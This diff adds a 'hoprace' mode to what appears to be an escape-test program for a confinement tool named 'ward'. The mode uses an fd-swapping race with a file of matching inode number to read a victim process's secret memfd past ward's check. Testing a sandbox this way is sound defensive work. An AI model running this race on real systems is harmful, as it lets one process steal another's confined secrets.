@@ -460,6 +460,117 @@ static void mode_victim(void)
 }
 
 /* Outside ward: hold the secret in a memfd, a deleted file and a pipe, and wait. */
+/*
+ * hoprace: the victim's memfd, through an O_PATH fd of the agent's (the
+ * kernel opens /proc/VICTIM/fd/N so), while a thread swaps that fd number
+ * between the O_PATH fd and a readable file of another filesystem that has
+ * the same inode number.  ward serves an object without a name only if the
+ * agent's fd still holds that object, not as O_PATH, when it looks: the
+ * inode number alone repeats across filesystems, and the swap made it
+ * match.  The file is searched for on every filesystem but /proc, /sys
+ * and /dev; when none has the number, the race is not run (said so).
+ */
+#define HOP_FD 200
+static int hop_opath = -1, hop_other = -1;
+static volatile int hop_stop;
+static ino_t hop_ino;
+static char hop_found[PATH_MAX];
+
+static void *hop_swapper(void *arg)
+{
+	(void)arg;
+	while (!hop_stop) {
+		dup2(hop_opath, HOP_FD);
+		dup2(hop_other, HOP_FD);
+	}
+	return NULL;
+}
+
+static bool find_ino(const char *dir, int depth, double until)
+{
+	DIR *d = opendir(dir);
+	struct dirent *e;
+	bool found = false;
+
+	if (d == NULL)
+		return false;
+	while (!found && now() < until && (e = readdir(d)) != NULL) {
+		char p[PATH_MAX];
+		struct stat st;
+		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0 ||
+		    (depth == 16 && (strcmp(e->d_name, "proc") == 0 || strcmp(e->d_name, "sys") == 0 ||
+				     strcmp(e->d_name, "dev") == 0)))
+			continue;
+		if (snprintf(p, sizeof(p), "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name) >= (int)sizeof(p) ||
+		    lstat(p, &st) < 0)
+			continue;
+		if (S_ISREG(st.st_mode) && st.st_ino == hop_ino && access(p, R_OK) == 0) {
+			snprintf(hop_found, sizeof(hop_found), "%s", p);
+			found = true;
+		} else if (S_ISDIR(st.st_mode) && depth > 0) {
+			found = find_ino(p, depth - 1, until);
+		}
+	}
+	closedir(d);
+	return found;
+}
+
+static void mode_hoprace(void)
+{
+	const char *v = getenv("VICTIM_PID");
+	char p[64];
+	struct stat st;
+
+	if (v == NULL)
+		setup_failed("VICTIM_PID");
+	/* The victim's memfd (victim_serve): found by its link's text. */
+	for (int n = 0; n < 64 && hop_opath < 0; n++) {
+		char target[PATH_MAX];
+		snprintf(p, sizeof(p), "/proc/%s/fd/%d", v, n);
+		ssize_t tl = readlink(p, target, sizeof(target) - 1);
+		target[tl > 0 ? tl : 0] = '\0';
+		if (strncmp(target, "/memfd:victim-secret", 20) == 0)
+			hop_opath = open(p, O_PATH | O_CLOEXEC);
+	}
+	if (hop_opath < 0 || fstat(hop_opath, &st) < 0) {
+		say("blocked: open(%s, O_PATH): %s", p, strerror(errno));
+		return;
+	}
+	hop_ino = st.st_ino;
+	/* Everywhere but /proc, /sys and /dev, for 20 seconds at most. */
+	find_ino("/", 16, now() + 20);
+	if (!hop_found[0]) {
+		say("note: no readable file with inode number %lu found: the race was not run",
+		    (unsigned long)hop_ino);
+		return;
+	}
+	hop_other = open(hop_found, O_RDONLY | O_CLOEXEC);
+	if (hop_other < 0)
+		setup_failed(hop_found);
+	say("note: %s has the memfd's inode number %lu", hop_found, (unsigned long)hop_ino);
+	pthread_t t;
+	if (pthread_create(&t, NULL, hop_swapper, NULL) != 0)
+		setup_failed("pthread_create");
+	snprintf(p, sizeof(p), "/proc/self/fd/%d", HOP_FD);
+	double end = now() + race_seconds();
+	long tries = 0;
+	while (now() < end && !att_through) {
+		int fd = open(p, O_RDONLY | O_CLOEXEC);
+		tries++;
+		if (fd < 0)
+			continue;
+		char buf[256];
+		ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
+		if (n > 0 && is_secret(buf, (size_t)n))
+			leak("the victim's memfd through a swapped O_PATH fd", buf, (size_t)n);
+		close(fd);
+	}
+	hop_stop = 1;
+	pthread_join(t, NULL);
+	if (!att_through)
+		say("blocked: the victim's memfd through a swapped O_PATH fd (%ld tries)", tries);
+}
+
 static int victim_serve(const char *secretfile, const char *pidfile)
 {
 	char buf[256], tmp[PATH_MAX];
@@ -511,6 +622,8 @@ int main(int argc, char **argv)
 		mode_init();
 	else if (strcmp(mode, "victim") == 0)
 		mode_victim();
+	else if (strcmp(mode, "hoprace") == 0)
+		mode_hoprace();
 	else if (strcmp(mode, "ipc") == 0)
 		sysv_shm();
 	else if (strcmp(mode, "links") == 0)
